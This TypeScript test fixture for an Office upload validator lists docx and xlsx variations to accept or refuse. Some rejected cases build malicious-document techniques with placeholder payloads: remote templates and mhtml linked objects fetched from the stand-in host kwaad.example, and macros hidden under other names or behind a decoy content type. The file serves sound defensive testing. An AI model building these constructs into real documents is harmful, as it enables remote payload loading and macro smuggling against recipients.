import type { Rejection } from '../../../../domain/document/document.ts';
import { EXE } from '../../files.ts';
import { type Parts, rewrite } from './looking.ts';

const TYPES = '[Content_Types].xml';
const RELS = '_rels/.rels';
/** The first bytes of an OLE compound file, in which macros and embedded objects are kept. */
const COMPOUND = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]);
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const MICROSOFT = 'http://schemas.microsoft.com/office/2006/relationships';

export const mainOf = (parts: Parts): string =>
  parts.has('word/document.xml') ? 'word/document.xml' : 'xl/workbook.xml';
const relsOf = (part: string): string => part.replace(/([^/]+)$/, '_rels/$1.rels');

function related(parts: Parts, part: string, type: string, target: string, mode = ''): void {
  const name = relsOf(part);
  const one = `<Relationship Id="x1" Type="${type}" Target="${target}"${mode && ` TargetMode="${mode}"`}/>`;
  if (parts.has(name)) rewrite(parts, name, '</Relationships>', `${one}</Relationships>`);
  else
    parts.set(
      name,
      Buffer.from(
        `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${one}</Relationships>`,
      ),
    );
}
const external = (type: string, target: string) => (parts: Parts) =>
  related(parts, mainOf(parts), `${OFFICE}/${type}`, target, 'External');
const typed = (parts: Parts, part: string, type: string) =>
  rewrite(parts, TYPES, '</Types>', `<Override PartName="/${part}" ContentType="${type}"/></Types>`);
const renamed = (parts: Parts, from: string, to: string) => {
  const bytes = parts.get(from) ?? Buffer.alloc(0);
  parts.delete(from);
  parts.set(to, bytes);
};
const mainType = (parts: Parts, type: string) => {
  rewrite(
    parts,
    TYPES,
    /application\/vnd\.openxmlformats-officedocument\.(wordprocessingml\.document|spreadsheetml\.sheet)\.main\+xml/,
    type,
  );
};

/** What has to become of each change to a docx and an xlsx: taken, or refused with that reason. */
export const OFFICE_VARIATIONS: Readonly<Record<string, [(parts: Parts) => void, Rejection | undefined]>> = {
  'as it is': [() => undefined, undefined],
  'content types under a name in other case': [(parts) => renamed(parts, TYPES, '[content_types].XML'), undefined],
  'content types between quotes': [
    (parts) => parts.set(TYPES, Buffer.from(String(parts.get(TYPES)).replaceAll('"', "'"))),
    undefined,
  ],
  'content types in UTF-16': [
    (parts) => {
      const text = String(parts.get(TYPES)).replace(/<\?xml[^>]*\?>/, '<?xml version="1.0" encoding="UTF-16"?>');
      parts.set(TYPES, Buffer.from(`\ufeff${text}`, 'utf16le'));
    },
    undefined,
  ],
  'content types with a byte order mark, a comment and a prefix': [
    (parts) => {
      const text = String(parts.get(TYPES))
        .replace(/<\?xml[^>]*\?>/, '')
        .replaceAll(/<(\/?)(Types|Default|Override)/g, '<$1ct:$2')
        .replace('xmlns=', 'xmlns:ct=');
      parts.set(TYPES, Buffer.from(`\ufeff<?xml version="1.0"?><!-- een > en een < -->\n${text}`));
    },
    undefined,
  ],
  'content types in capitals': [
    (parts) =>
      parts.set(
        TYPES,
        Buffer.from(
          String(parts.get(TYPES)).replaceAll(/ContentType="([^"]*)"/g, (all) =>
            all.toUpperCase().replace('CONTENTTYPE', 'ContentType'),
          ),
        ),
      ),
    undefined,
  ],
  'part names in capitals': [
    (parts) =>
      parts.set(
        TYPES,
        Buffer.from(
          String(parts.get(TYPES)).replaceAll(/PartName="([^"]*)"/g, (_, name) => `PartName="${name.toUpperCase()}"`),
        ),
      ),
    undefined,
  ],
  'content types as the first part': [
    (parts) => {
      const rest = [...parts];
      const types = parts.get(TYPES) ?? Buffer.alloc(0);
      parts.clear();
      parts.set(TYPES, types);
      for (const [name, bytes] of rest) parts.set(name, bytes);
    },
    undefined,
  ],
  'content types as the last part': [
    (parts) => {
      const types = parts.get(TYPES) ?? Buffer.alloc(0);
      parts.delete(TYPES);
      parts.set(TYPES, types);
    },
    undefined,
  ],
  'a main part of another name': [
    (parts) => {
      const main = mainOf(parts);
      const other = main.replace('.xml', '2.xml');
      renamed(parts, main, other);
      renamed(parts, relsOf(main), relsOf(other));
      rewrite(parts, TYPES, `/${main}`, `/${other}`);
      rewrite(parts, RELS, main, `/${other}`);
    },
    undefined,
  ],
  'the strict form of ISO 29500': [
    (parts) =>
      rewrite(
        parts,
        RELS,
        `${OFFICE}/officeDocument`,
        'http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument',
      ),
    undefined,
  ],
  'a link to a page': [external('hyperlink', 'https://voorbeeld.example/'), undefined],
  'a template on the own disk': [
    external('attachedTemplate', 'file:///C:\\Users\\merel\\Templates\\Brief.dotx'),
    undefined,
  ],
  'settings of a printer': [
    (parts) => {
      parts.set('word/printerSettings1.bin', Buffer.from('H\0P\0 \0L\0a\0s\0e\0r\0', 'latin1'));
      related(parts, mainOf(parts), `${OFFICE}/printerSettings`, 'printerSettings1.bin');
    },
    undefined,
  ],

  'macros under their own name': [(parts) => parts.set('word/vbaProject.bin', COMPOUND), 'carries-program'],
  'macros under another name, found by their relationship': [
    (parts) => {
      parts.set('word/kleuren.bin', Buffer.from('niets te zien'));
      related(parts, mainOf(parts), `${MICROSOFT}/vbaProject`, 'kleuren.bin');
    },
    'carries-program',
  ],
  'macros under another name, found by their content type': [
    (parts) => {
      parts.set('word/kleuren.dat', Buffer.from('niets te zien'));
      typed(parts, 'word/kleuren.dat', 'application/vnd.ms-office.vbaProject');
    },
    'carries-program',
  ],
  'macros under another name, found by their bytes': [
    (parts) => parts.set('word/media/image9.png', COMPOUND),
    'carries-program',
  ],
  'a main part that may have macros (docm, xlsm)': [
    (parts) => mainType(parts, 'application/vnd.ms-word.document.macroEnabled.main+xml'),
    'carries-program',
  ],
  'a decoy as the first content type, the real part has macros': [
    (parts) => {
      const good = /ContentType="([^"]*\.main\+xml)"/.exec(String(parts.get(TYPES)))?.[1] ?? '';
      mainType(parts, 'application/vnd.ms-excel.sheet.macroEnabled.main+xml');
      rewrite(parts, TYPES, /(<Types[^>]*>)/, `$1<Override PartName="/decoy.xml" ContentType="${good}"/>`);
      parts.set('decoy.xml', Buffer.from('<a/>'));
    },
    'carries-program',
  ],
  'a sheet with macros (Excel 4)': [
    (parts) => {
      parts.set('xl/macrosheets/sheet1.xml', Buffer.from('<a/>'));
      typed(parts, 'xl/macrosheets/sheet1.xml', 'application/vnd.ms-excel.macrosheet+xml');
    },
    'carries-program',
  ],
  'an ActiveX control': [
    (parts) => {
      parts.set('word/activeX/activeX1.xml', Buffer.from('<a/>'));
      related(parts, mainOf(parts), `${OFFICE}/control`, 'activeX/activeX1.xml');
    },
    'carries-program',
  ],
  'an embedded object': [
    (parts) => {
      parts.set('word/embeddings/oleObject1.bin', COMPOUND);
      related(parts, mainOf(parts), `${OFFICE}/oleObject`, 'embeddings/oleObject1.bin');
    },
    'carries-program',
  ],
  'a program called a picture': [(parts) => parts.set('word/media/image1.png', EXE), 'carries-program'],
  'a script for the shell': [(parts) => parts.set('word/media/a.txt', Buffer.from('#!/bin/sh\nls')), 'carries-program'],
  'a web add-in': [
    (parts) =>
      related(parts, mainOf(parts), 'http://schemas.microsoft.com/office/2011/relationships/webextension', 'we.xml'),
    'carries-program',
  ],
  'an imported RTF': [
    (parts) => {
      parts.set('word/afchunk.dat', Buffer.from('{\\rtf1 dag}'));
      related(parts, mainOf(parts), `${OFFICE}/aFChunk`, 'afchunk.dat');
    },
    'carries-program',
  ],

  'a template from the web': [external('attachedTemplate', 'https://kwaad.example/a.dotm'), 'fetches-elsewhere'],
  'a template from a share': [external('attachedTemplate', '\\\\kwaad.example\\a\\a.dotm'), 'fetches-elsewhere'],
  'a template from a share, as an address': [
    external('attachedTemplate', 'file://kwaad.example/a.dotm'),
    'fetches-elsewhere',
  ],
  'a linked object': [
    external('oleObject', 'mhtml:https://kwaad.example/a!x-usc:https://kwaad.example'),
    'fetches-elsewhere',
  ],
  'a frame from elsewhere': [external('frame', 'https://kwaad.example/a'), 'fetches-elsewhere'],

  'a template instead of a document': [
    (parts) => mainType(parts, 'application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml'),
    'type-differs',
  ],
  'no relationship to a main part': [(parts) => parts.delete(RELS), 'type-differs'],
  'a relationship to a main part that is not there': [(parts) => parts.delete(mainOf(parts)), 'type-differs'],
  'no content types': [(parts) => parts.delete(TYPES), 'type-differs'],
  'content types only': [
    (parts) => {
      for (const name of [...parts.keys()]) if (name !== TYPES) parts.delete(name);
    },
    'type-differs',
  ],
  'content types that are no XML': [(parts) => parts.set(TYPES, Buffer.from('<Types><Types')), 'unreadable'],
  'two parts of the same name': [(parts) => parts.set(mainOf(parts).toUpperCase(), Buffer.from('<a/>')), 'unreadable'],
};
